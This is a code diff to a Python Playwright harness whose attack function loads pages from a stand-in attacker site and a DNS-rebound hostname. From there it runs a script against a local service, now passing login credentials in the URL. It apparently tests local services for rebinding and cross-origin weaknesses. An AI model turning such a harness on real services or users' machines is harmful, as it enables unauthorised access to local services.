@@ -168,19 +168,20 @@ def attack(browser: Any, target: Target, login: dict[str, str] | None = None) ->
     found: list[str] = []
     ours = f"http://127.0.0.1:{target.port}"
     rebound = f"http://{EVIL}:{target.port}"
-    credentials = {"http_credentials": login | {"origin": ours}} if login else {}
     with evil_site() as port:
         for page_url, base in (
             (f"http://127.0.0.1:{port}/", ours),
             (f"http://{EVIL}:{port}/", ours),
             (f"{rebound}/attack.html", rebound),
         ):
-            context = browser.new_context(**credentials)
+            context = browser.new_context()
             page = context.new_page()
             if login:
-                page.goto(ours)  # the browser knows the login from now on
+                # The browser knows the login from now on. Playwright's own credentials would answer preflights, too.
+                page.goto(ours.replace("//", f"//{login['username']}:{login['password']}@"))
             # Under a rebound name, the page came from the attacker's own server, before the name was pointed here.
-            page.route(f"{rebound}/attack.html", lambda route: route.fulfill(body=PAGE, content_type="text/html"))
+            if base == rebound:  # with a route, Playwright answers the preflights of the page by itself
+                page.route(f"{rebound}/attack.html", lambda route: route.fulfill(body=PAGE, content_type="text/html"))
             page.goto(page_url)
             found += [f"{target.name}, {page_url}: {each}" for each in page.evaluate(ATTACK, target.argument(base))]
             context.close()
